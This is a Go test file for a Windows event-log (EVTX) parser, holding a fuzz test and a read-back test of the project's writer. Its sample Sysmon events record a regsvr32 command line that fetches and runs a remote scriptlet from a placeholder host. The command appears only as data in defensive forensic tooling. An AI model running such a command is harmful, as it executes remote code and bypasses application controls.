package parser

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"
	"unicode/utf8"
)

// memFile is an in-memory io.WriteSeeker for the Writer.
type memFile struct {
	b   []byte
	pos int64
}

func (m *memFile) Write(p []byte) (int, error) {
	if need := m.pos + int64(len(p)); need > int64(len(m.b)) {
		m.b = append(m.b, make([]byte, need-int64(len(m.b)))...)
	}
	copy(m.b[m.pos:], p)
	m.pos += int64(len(p))
	return len(p), nil
}

func (m *memFile) Seek(off int64, whence int) (int64, error) {
	switch whence {
	case io.SeekStart:
		m.pos = off
	case io.SeekCurrent:
		m.pos += off
	case io.SeekEnd:
		m.pos = int64(len(m.b)) + off
	}
	if m.pos < 0 {
		return 0, errors.New("negative position")
	}
	return m.pos, nil
}

// writerSample writes n Sysmon-like events with the project's Writer.
func writerSample(t testing.TB, n int) []byte {
	t.Helper()
	m := &memFile{}
	w := NewWriter(m)
	base := time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC)
	for i := 0; i < n; i++ {
		ev := &Event{
			RecordID: uint64(1000 + i), Time: base.Add(time.Duration(i) * time.Second),
			Provider: "Microsoft-Windows-Sysmon", ProviderGUID: "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
			Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "WS1",
			EventID: 1, Version: 5, Level: 4, Task: 1, Keywords: 0x8000000000000000,
			ProcessID: 1880, ThreadID: 2020, UserID: "S-1-5-18",
			Fields: []Field{
				{"RuleName", ""}, {"UtcTime", "2024-03-01 10:00:00.000"},
				{"ProcessGuid", "{365ABB72-6759-5CD8-0000-0010E2D50F00}"}, {"ProcessId", "1420"},
				{"Image", `C:\Windows\System32\regsvr32.exe`},
				{"CommandLine", "regsvr32.exe /s /u /i:http://example.test/x.sct scrobj.dll"},
				{"LogonId", "0x13eee"}, {"TerminalSessionId", "1"},
				{"ParentImage", `C:\Windows\System32\cmd.exe`},
			},
		}
		if err := w.Write(ev); err != nil {
			t.Fatalf("writer: %v", err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("writer: %v", err)
	}
	return m.b
}

// wrapRecords puts raw bytes into the record area of a chunk with valid
// headers and CRCs, so that fuzzing reaches the record and binary XML code
// without having to guess checksums.
func wrapRecords(data []byte) []byte {
	c := make([]byte, chunkSize)
	copy(c, chunkMagic)
	n := copy(c[chunkHeaderSize:], data)
	le := binary.LittleEndian
	le.PutUint64(c[0x08:], 1)
	le.PutUint64(c[0x10:], 1)
	le.PutUint32(c[0x28:], 0x80)
	le.PutUint32(c[0x30:], uint32(chunkHeaderSize+n))
	le.PutUint32(c[0x34:], crc32.ChecksumIEEE(c[chunkHeaderSize:chunkHeaderSize+n]))
	h := crc32.NewIEEE()
	h.Write(c[:0x78])
	h.Write(c[0x80:chunkHeaderSize])
	le.PutUint32(c[0x7c:], h.Sum32())
	return mkFile(c)
}

// firstChunkOnly cuts a file after the records of its first chunk.
func firstChunkOnly(file []byte) []byte {
	free := int(binary.LittleEndian.Uint32(file[fileHeaderSize+0x30:]))
	return append([]byte(nil), file[:fileHeaderSize+free]...)
}

// firstRecords keeps the whole records at the start of a record area that
// fit in limit bytes (at least one).
func firstRecords(area []byte, limit int) []byte {
	end := 0
	for end+8 <= len(area) {
		size := int(binary.LittleEndian.Uint32(area[end+4:]))
		if size < minRecordSize || end+size > len(area) || (end > 0 && end+size > limit) {
			break
		}
		end += size
	}
	return area[:end]
}

// recordArea returns the bytes between the chunk header and the free-space
// offset of the first chunk of a file.
func recordArea(file []byte) []byte {
	c := file[fileHeaderSize:]
	free := int(binary.LittleEndian.Uint32(c[0x30:]))
	return append([]byte(nil), c[chunkHeaderSize:free]...)
}

// FuzzReader reads arbitrary bytes as a file (when they start with the file
// magic) or as the record area of a well-formed chunk, with and without
// carving, and checks the Reader's promises: no panic, no hang, counts that
// add up, valid UTF-8 values, distinct non-empty field names, events in
// file order.
func FuzzReader(f *testing.F) {
	// Seeds stay small (the fuzzer minimises interesting inputs byte by
	// byte): whole files are cut after the first chunk's records, which the
	// reader still reads (reporting the truncation).
	sample := writerSample(f, 3)
	f.Add(firstChunkOnly(sample))
	f.Add(recordArea(sample))
	f.Add(recordArea(mkFile(mkChunk([]rec{{num: 1, body: sysmonBody(1, 1, sampleFields)}, {num: 2, body: plainBody}}, chunkOpts{}))))
	for _, c := range hostileCases() {
		if len(c.data) > fileHeaderSize+chunkHeaderSize {
			f.Add(recordArea(c.data))
		}
	}
	if s := sharedDir(f); s != "" {
		for _, name := range []string{"sysmon_regsvr32_sct.evtx", "security_4688_v2_malseclogon.evtx", "capi2_private_key.evtx", "evtx32_no_templates_powershell.evtx"} {
			if data, err := os.ReadFile(filepath.Join(s, "evtx", name)); err == nil {
				f.Add(firstRecords(recordArea(data), 0))
			}
		}
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		file := data
		if !bytes.HasPrefix(data, fileMagic) {
			file = wrapRecords(data)
		}
		for _, carve := range []bool{false, true} {
			r, err := NewReader(bytes.NewReader(file), int64(len(file)), Options{Workers: 1, Carve: carve})
			if err != nil {
				if !errors.Is(err, ErrNotEVTX) {
					t.Fatalf("NewReader: unexpected error %v", err)
				}
				return
			}
			n := 0
			var last int64 = -1
			err = r.Events(context.Background(), func(e *Event) error {
				n++
				if e.Offset <= last {
					t.Fatalf("event at 0x%x after 0x%x: not in file order", e.Offset, last)
				}
				last = e.Offset
				names := make(map[string]bool, len(e.Fields))
				for _, fl := range e.Fields {
					if !utf8.ValidString(fl.Value) || !utf8.ValidString(fl.Name) {
						t.Fatalf("invalid UTF-8 in field %q", fl.Name)
					}
					if names[fl.Name] || fl.Name == "" {
						t.Fatalf("field name %q given twice or empty: %q", fl.Name, e.Fields)
					}
					names[fl.Name] = true
				}
				if e.Recovered && !carve {
					t.Fatal("recovered event without carving")
				}
				if e.Recovered && (e.RecordID == 0 || e.Time.IsZero() || len(e.Fields) == 0) {
					t.Fatalf("a carved shell was delivered: %+v", e)
				}
				return nil
			})
			if err != nil {
				t.Fatalf("Events: %v", err)
			}
			st := r.Stats()
			if st.Records != n || st.Problems != len(r.Problems()) {
				t.Fatalf("stats %+v vs %d events, %d problems", st, n, len(r.Problems()))
			}
			if st.Chunks != r.numChunks() {
				t.Fatalf("%d chunks counted, %d present", st.Chunks, r.numChunks())
			}
		}
	})
}

// TestReadWriterOutput reads back what the project's Writer wrote.
func TestReadWriterOutput(t *testing.T) {
	data := writerSample(t, 2000)
	for _, workers := range []int{1, 2} {
		evs, r := read(t, data, Options{Workers: workers, Carve: true})
		if p := r.Problems(); len(p) != 0 {
			t.Fatalf("problems: %v", p)
		}
		if len(evs) != 2000 {
			t.Fatalf("%d events, want 2000", len(evs))
		}
		for i, e := range evs {
			if e.RecordID != uint64(1000+i) || e.RecordNum != uint64(i+1) || e.Recovered {
				t.Fatalf("event %d: RecordID %d RecordNum %d recovered %v", i, e.RecordID, e.RecordNum, e.Recovered)
			}
		}
		e := evs[1]
		if v, _ := e.Field("CommandLine"); v != "regsvr32.exe /s /u /i:http://example.test/x.sct scrobj.dll" {
			t.Errorf("CommandLine %q", v)
		}
		if v, _ := e.Field("LogonId"); v != "0x13eee" {
			t.Errorf("LogonId %q", v)
		}
		if e.Time != time.Date(2024, 3, 1, 10, 0, 1, 0, time.UTC) || e.UserID != "S-1-5-18" || e.ProcessID != 1880 || e.Keywords != 0x8000000000000000 {
			t.Errorf("system values %+v", e)
		}
		if r.Stats().Chunks < 2 {
			t.Errorf("expected several chunks, got %d", r.Stats().Chunks)
		}
	}
}
